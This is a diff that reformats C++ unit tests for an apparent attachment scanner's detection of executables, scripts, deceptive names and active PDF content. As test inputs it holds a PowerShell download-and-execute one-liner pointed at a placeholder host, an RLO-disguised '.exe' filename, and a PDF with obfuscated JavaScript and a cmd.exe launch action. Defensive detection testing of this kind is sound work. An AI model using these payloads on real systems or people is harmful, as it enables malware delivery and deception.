@@ -24,7 +24,9 @@ std::string lnk() {
 
 std::string iso_image() {
     std::string d(0x8800, '\0');
-    d.replace(0x8000, 6, "\x01" "CD001");
+    d.replace(0x8000, 6,
+              "\x01"
+              "CD001");
     return d;
 }
 
@@ -47,7 +49,10 @@ TEST(Dangerous, ExecutableByContentNotName) {
     EXPECT_TRUE(has(r, "ATTACH_EXECUTABLE"));
     EXPECT_TRUE(has(r, "ATTACH_TYPE_MISMATCH"));
     EXPECT_EQ(r.kind, "pe");
-    auto elf = one("x", std::string("\x7F" "ELF\x02\x01\x01", 7) + std::string(120, '\0'));
+    auto elf = one("x", std::string("\x7F"
+                                    "ELF\x02\x01\x01",
+                                    7) +
+                            std::string(120, '\0'));
     EXPECT_TRUE(has(elf, "ATTACH_EXECUTABLE"));
     EXPECT_FALSE(has(elf, "ATTACH_TYPE_MISMATCH"));  // octet-stream, no document name
     // A name alone does not make an executable.
@@ -88,12 +93,13 @@ TEST(Dangerous, ScriptsByNameAndByContent) {
     ASSERT_NE(f, nullptr);
     EXPECT_EQ(f->evidence["by"], "content");
     EXPECT_EQ(f->evidence["language"], "vbs");
-    auto ps = one("notes.txt", "$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.invalid/a'))", "text/plain");
+    auto ps =
+        one("notes.txt", "$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.invalid/a'))", "text/plain");
     EXPECT_TRUE(has(ps, "ATTACH_SCRIPT"));
     EXPECT_TRUE(has(one("x.txt", "#@~^AAAAAA==encoded", "text/plain"), "ATTACH_SCRIPT"));
     // Ordinary text mentioning one keyword is not a script.
-    EXPECT_FALSE(has(one("memo.txt", "Please run the report and eval( the results ) tomorrow.", "text/plain"),
-                     "ATTACH_SCRIPT"));
+    EXPECT_FALSE(
+        has(one("memo.txt", "Please run the report and eval( the results ) tomorrow.", "text/plain"), "ATTACH_SCRIPT"));
 }
 
 TEST(Dangerous, HtmlSmuggling) {
@@ -117,7 +123,10 @@ TEST(Dangerous, DeceptiveNames) {
     EXPECT_FALSE(has(one("report.2020.pdf", "x"), "ATTACH_DOUBLE_EXTENSION"));
     EXPECT_FALSE(has(one("archive.tar.gz", "x"), "ATTACH_DOUBLE_EXTENSION"));
     // "invoice\u202Efdp.exe" shows as "invoiceexe.pdf".
-    auto rlo = one("invoice\xE2\x80\xAE" "fdp.exe", "x");
+    auto rlo =
+        one("invoice\xE2\x80\xAE"
+            "fdp.exe",
+            "x");
     const auto* f = find(rlo, "ATTACH_NAME_BIDI");
     ASSERT_NE(f, nullptr);
     EXPECT_EQ(f->evidence["code_points"][0], "U+202E");
@@ -126,10 +135,11 @@ TEST(Dangerous, DeceptiveNames) {
 }
 
 TEST(Dangerous, PdfActiveContent) {
-    std::string pdf = "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R /Names << /EmbeddedFiles 3 0 R >> >> endobj\n"
-                      "2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"
-                      "4 0 obj << /A << /S /URI /URI (http://example.invalid/) >> >> endobj\n"
-                      "5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF\n";
+    std::string pdf =
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R /Names << /EmbeddedFiles 3 0 R >> >> endobj\n"
+        "2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"
+        "4 0 obj << /A << /S /URI /URI (http://example.invalid/) >> >> endobj\n"
+        "5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF\n";
     auto r = one("doc.pdf", pdf, "application/pdf");
     EXPECT_EQ(r.kind, "pdf");
     EXPECT_TRUE(has(r, "PDF_JAVASCRIPT"));
@@ -138,9 +148,10 @@ TEST(Dangerous, PdfActiveContent) {
     EXPECT_TRUE(has(r, "PDF_EMBEDDED_FILE"));
     const auto* uri = find(r, "PDF_URI");
     ASSERT_NE(uri, nullptr);
-    EXPECT_EQ(uri->evidence["uri"], 2);  // the /S /URI action and its /URI key
+    EXPECT_EQ(uri->evidence["uri"], 2);               // the /S /URI action and its /URI key
     EXPECT_EQ(r.details["pdf"][0]["javascript"], 2);  // /J#61vaScript decoded, and /JS
-    auto clean = one("clean.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n", "application/pdf");
+    auto clean =
+        one("clean.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n", "application/pdf");
     EXPECT_FALSE(has(clean, "PDF_JAVASCRIPT"));
     EXPECT_FALSE(has(clean, "PDF_URI"));
 }
